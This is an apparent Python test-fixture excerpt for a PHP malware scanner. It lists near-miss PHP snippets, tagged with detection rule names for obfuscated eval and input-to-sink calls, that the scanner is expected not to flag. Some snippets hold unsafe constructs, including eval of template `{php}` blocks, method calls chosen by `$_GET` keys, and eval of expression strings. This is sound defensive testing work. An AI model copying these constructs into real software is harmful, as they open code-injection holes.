_NEAR: list[tuple[str, str]] = [
    (
        "SPAMGEAR_OBFUSC_DecodedVarEval",
        "<?php\n$json = base64_decode($row['meta']);\n$meta = json_decode($json, true);\necho esc_html($meta['title']);\n",
    ),
    (
        "SPAMGEAR_OBFUSC_DecodedVarEval",
        "<?php\n$compiled = $this->compiler->compile($source);\neval('?>' . $compiled);\n",
    ),
    (
        "SPAMGEAR_OBFUSC_DecodedVarEval",
        "<?php\n$icon = base64_decode('iVBORw0KGgoAAAANSUhEUgAAABAAAAAQ');\nheader('Content-Type: image/png');\necho $icon;\n",
    ),
    (
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "<?php\n$fn = 'sanitize_' . $type;\n$clean = $fn($_POST['value']);\n",
    ),
    (
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "<?php\n$callback = $this->callbacks[$key];\n$callback($_POST['data']);\n",
    ),
    (
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "<?php\n$ip = $p[0] . '.' . $p[1] . '.' . $p[2] . '.' . $p[3];\n$log($_SERVER['REMOTE_ADDR']);\n",
    ),
    (
        "SPAMGEAR_OBFUSC_GotoSpaghettiSink",
        "<?php\nfunction parse_list($s) {\n    $i = 0;\n    retry:\n    if ($i > 3) { goto done; }\n    $i++;\n    if (!$s) { goto retry; }\n    done:\n    return $i;\n}\n",
    ),
    (
        "SPAMGEAR_EVASION_SplitPregModifier",
        "<?php\n$out = preg_replace('/' . preg_quote($word, '/') . '/i', '<b>$0</b>', $text);\n",
    ),
    (
        "SPAMGEAR_EVASION_SplitPregModifier",
        "<?php\n$pattern = '/' . $rx . '/';\n$pattern .= 'i';\n$text = preg_replace($pattern, $replacement, $text);\n",
    ),
    (
        "SPAMGEAR_INPUT_ClosureSinkOfInput",
        "<?php\n$items = array_map(function($v) { return trim($v); }, $_POST['items']);\n",
    ),
    (
        "SPAMGEAR_INPUT_ClosureSinkOfInput",
        "<?php\n$args = array_map(function($a) { return escapeshellarg($a); }, $_POST['args']);\n",
    ),
    (
        "SPAMGEAR_INPUT_HelperSinkOfInput",
        "<?php\nfunction h($s) { return htmlspecialchars($s, ENT_QUOTES); }\necho h($_GET['q']);\n",
    ),
    (
        "SPAMGEAR_INPUT_HelperSinkOfInput",
        "<?php\nfunction uptime_of($c) { return shell_exec($c); }\necho uptime_of('uptime');\n",
    ),
    (
        "SPAMGEAR_INPUT_ShortCircuitSink",
        "<?php\n$debug = isset($_GET['debug']);\nisset($opts['log']) && error_log($opts['log']);\n$ok && evaluate($rules['a']);\n",
    ),
    (
        "SPAMGEAR_OBFUSC_Base64SinkLiteral",
        "<?php\n$label = base64_decode('c3lzdGVtX2luZm8=');\necho $label;\n",
    ),
    ("SPAMGEAR_INPUT_LoopInputToSink", "<?php\nforeach ($_POST as $k => $v) { $clean[$k] = trim($v); }\n"),
    (
        "SPAMGEAR_INPUT_LoopInputToSink",
        "<?php\nforeach (getallheaders() as $name => $value) { header($name . ': ' . $value); }\n",
    ),
    ("SPAMGEAR_INPUT_LoopInputToSink", "<?php\nforeach ($_GET as $k => $v) { $this->$k($v); }\n"),
    (
        "SPAMGEAR_INPUT_InputCallbackVar",
        "<?php\n$order = $_GET['order'];\n$cmp = $order === 'asc' ? 'cmp_asc' : 'cmp_desc';\nusort($rows, $cmp);\n",
    ),
    (
        "SPAMGEAR_INPUT_InputCallbackVar",
        "<?php\n$q = trim($_GET['q']);\n$rows = array_filter($rows, $matcher);\n",
    ),
    ("SPAMGEAR_OBFUSC_SplitSuperglobalName", "<?php\n$name = '_' . 'GET_PARAMS';\n$key = '_' . 'id';\n"),
    ("SPAMGEAR_OBFUSC_ConcatSinkName", "<?php\n$w = 'crea' . 'tion';\n$x = 'cre' . 'dit' . 's';\n"),
    (
        "SPAMGEAR_INPUT_HelperSinkOfInput",
        "<?php\nclass Out { static function e($s) { echo htmlspecialchars($s); } }\nOut::e($_GET['q']);\n",
    ),
    (
        "SPAMGEAR_INPUT_ClosureSinkOfInput",
        "<?php\n$out = preg_replace_callback('/\\{php\\}(.*?)\\{\\/php\\}/s', function($m) { return eval($m[1]); }, $template);\n",
    ),
    (
        "SPAMGEAR_OBFUSC_ChrMapEval",
        "<?php\n$s = implode('', array_map('chr', $codes));\necho $s;\n$t = '';\nforeach ($codes as $c) { $t .= chr($c); }\necho $t;\n",
    ),
    (
        "SPAMGEAR_EVASION_SplitPregModifier",
        "<?php\n$text = preg_replace(\"/$q/$flags\", '<b>$0</b>', $text);\n",
    ),
    (
        "SPAMGEAR_INPUT_LoopInputToSink",
        "<?php\nwhile (list($k, $v) = each($_POST)) { $clean[$k] = trim($v); }\n",
    ),
    ("SPAMGEAR_INPUT_ClosureSinkOfInput", "<?php\n$a = (function($x) { return trim($x); })($_POST['a']);\n"),
    (
        "SPAMGEAR_OBFUSC_DecodedVarEval",
        "<?php\n$raw = stripslashes($_POST['json']);\n$data = json_decode($raw);\nvar_dump($data);\n",
    ),
    (
        "SPAMGEAR_OBFUSC_EvalIndirectDecoder",
        "<?php\n$v = $handlers['x']($code);\n$r = eval('return ' . $expr . ';');\n$x = call_user_func('base64_decode', $s);\necho $x;\n",
    ),
    (
        "SPAMGEAR_OBFUSC_EvalIndirectDecoder",
        "<?php\nfor ($i = 0; $i < 8; $i++) { $out .= chr($c[$i]); $h .= $a[$i] ^ $b[$i]; }\necho $out;\n",
    ),
    (
        "SPAMGEAR_INPUT_ClosureSinkOfInput",
        "<?php\nusort($rows, create_function('$a,$b', 'return strcmp($a, $b);'));\n",
    ),
    (
        "SPAMGEAR_EVASION_SplitPregModifier",
        "<?php\n$s = mb_ereg_replace('\\s+', ' ', trim($_POST['name']), 'msr');\n",
    ),
    ("SPAMGEAR_INPUT_InputCallbackVar", "<?php\n$order = $_GET['order'];\nusort($rows, $cmp);\n"),
    (
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "<?php\n$fn = 'esc_html';\n$list = implode(', ', $names);\n$out = $fmt($_POST['x']);\n",
    ),
    (
        "SPAMGEAR_INPUT_ClosureSinkOfInput",
        "<?php\n$items = array_map(fn($v) => trim($v), $_POST['items']);\n$f = fn($x) => intval($x);\n$f($_GET['n']);\n",
    ),
    (
        "SPAMGEAR_OBFUSC_DecodedVarEval",
        "<?php\n$clean = $filter($_POST['x']);\n// store\n$db->insert($clean);\n",
    ),
    (
        "SPAMGEAR_OBFUSC_EscapedSuperglobalKey",
        "<?php\n$p = $GLOBALS[\"wpdb\"]->prefix;\n$x = $GLOBALS['_GET']['page'];\nprintf('%s', esc_html($x));\n",
    ),
    (
        "SPAMGEAR_INPUT_MagicMethodSink",
        "<?php\nclass F {\n    function __toString() { return strval($this->name); }\n    function __destruct() { fclose($this->fh); }\n}\n$f = new F($_GET['n']);\n",
    ),
    (
        "SPAMGEAR_OBFUSC_EvalIndirectDecoder",
        "<?php\necho str_replace('-', '', '2024-01-01');\n$v = eval('return ' . str_replace(',', '.', $n) . ';');\n",
    ),
    (
        "SPAMGEAR_INPUT_InputCallbackVar",
        "<?php\n$ids = $_GET['ids'];\n$top = max(...$ids);\n$args = [$_GET['a'], 2];\n$this->run(...$args);\n",
    ),
    (
        "SPAMGEAR_INPUT_ClosureSinkOfInput",
        "<?php\n$out = array_map(function($f, $v) { return $f($v); }, $filters, $values);\n",
    ),
    (
        "SPAMGEAR_INPUT_StoredSinkNameCall",
        "<?php\ndefine('APP_MODE', 'system');\n$x = strtolower($_GET['q']);\n$cfg = var_export($settings, true);\nfile_put_contents('config.php', $cfg);\ninclude 'config.php';\n",
    ),
]


CASES: list[tuple[str, bytes, bool]] = [
    case
    for r_plain, r_padded, r_embedded, code in _HITS
    for case in (
        (r_plain, plain(code), True),
        (r_padded, padded(code), True),
        (r_embedded, embedded(code), True),
    )
] + [(rule, wrap(code), False) for rule, code in _NEAR for wrap in (plain, padded, embedded)]
